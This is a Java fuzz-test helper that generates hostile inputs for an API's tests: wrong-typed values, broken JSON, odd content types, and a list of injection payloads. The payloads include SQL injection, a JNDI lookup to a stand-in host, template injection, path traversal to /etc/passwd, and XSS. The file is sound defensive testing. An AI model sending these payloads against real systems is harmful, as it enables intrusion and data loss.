package dev.slipway.api.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import java.util.Random;

/**
 * Generates hostile values from a seeded random source: wrong types, huge and empty strings,
 * unicode, control characters, injection strings, and bodies that are not JSON at all. A failing
 * case is reproduced by its seed.
 */
final class BadInput {
  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
  private static final List<String> NASTY =
      List.of(
          "",
          " ",
          "'; DROP TABLE tenants; --",
          "\" OR 1=1 --",
          "${jndi:ldap://x/a}",
          "{{7*7}}",
          "../../../../etc/passwd",
          "%00",
          "\u0000",
          "\u202Eevil",
          "テナント",
          "😀😀😀",
          // Past the 4 KiB request-line limit in a path or query; oversized bodies have a test
          // of their own (413), and sending one here ends in a broken pipe on the client side.
          "a".repeat(5_000),
          "-1",
          "9999999999999999999999",
          "NaN",
          "null",
          "<script>alert(1)</script>",
          "acme",
          "large");

  private final Random random;

  BadInput(long seed) {
    this.random = new Random(seed);
  }

  int nextInt(int bound) {
    return random.nextInt(bound);
  }

  String nastyString() {
    return random.nextInt(4) == 0 ? randomString() : NASTY.get(random.nextInt(NASTY.size()));
  }

  /** Any JSON value, often of the wrong type for whatever field it lands in. */
  JsonNode value(int depth) {
    return switch (random.nextInt(depth > 2 ? 7 : 9)) {
      case 0 -> NODES.nullNode();
      case 1 -> NODES.booleanNode(random.nextBoolean());
      case 2 -> NODES.numberNode(random.nextLong());
      case 3 -> NODES.numberNode(random.nextDouble() * 1e12 - 5e11);
      case 4 -> NODES.numberNode(random.nextInt(5) - 2);
      case 5, 6 -> NODES.textNode(nastyString());
      case 7 -> NODES.arrayNode().add(value(depth + 1)).add(value(depth + 1));
      default -> {
        ObjectNode o = NODES.objectNode();
        o.set(nastyString().isEmpty() ? "k" : "x" + random.nextInt(3), value(depth + 1));
        yield o;
      }
    };
  }

  /** A body built from the schema's field names with hostile values, some dropped, some added. */
  String body(List<String> fields, ObjectMapper json) throws Exception {
    if (random.nextInt(8) == 0) {
      return rawGarbage();
    }
    ObjectNode body = NODES.objectNode();
    for (String field : fields) {
      if (random.nextInt(4) != 0) {
        body.set(field, value(0));
      }
    }
    if (random.nextInt(5) == 0) {
      body.set("phase", value(0)); // mass assignment attempts and unknown fields
    }
    String text = json.writeValueAsString(body);
    return random.nextInt(10) == 0 ? text.substring(0, text.length() / 2) : text;
  }

  String contentType() {
    return List.of(
            "application/json",
            "application/json",
            "application/merge-patch+json",
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "application/json; charset=latin1")
        .get(random.nextInt(7));
  }

  private String rawGarbage() {
    return List.of("{", "[]", "\"just a string\"", "42", "{\"a\":}", "\u0000\u0001", "null", "")
        .get(random.nextInt(8));
  }

  private String randomString() {
    StringBuilder s = new StringBuilder();
    int length = random.nextInt(40);
    for (int i = 0; i < length; i++) {
      s.appendCodePoint(random.nextInt(3) == 0 ? random.nextInt(0x2FFF) : 32 + random.nextInt(95));
    }
    return s.toString();
  }
}
